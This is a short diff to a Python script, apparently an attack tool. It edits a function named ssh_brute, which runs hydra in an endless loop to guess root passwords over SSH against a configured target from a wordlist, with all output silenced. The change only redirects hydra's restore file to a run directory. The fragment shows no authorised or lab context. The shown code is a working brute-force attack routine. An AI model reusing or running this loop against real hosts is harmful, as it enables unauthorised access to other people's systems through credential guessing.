@@ -637,7 +637,8 @@ def ssh_brute(prefix):
     while True:
         subprocess.run(["hydra", "-q", "-I", "-l", "root", "-P", words, "-t", "2", "-w", "5",
                         "ssh://%s" % SSH_TARGET], stdin=subprocess.DEVNULL,
-                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                       cwd=RUN_DIR)  # hydra leaves its hydra.restore in the working directory
         sleep(2)
 
 
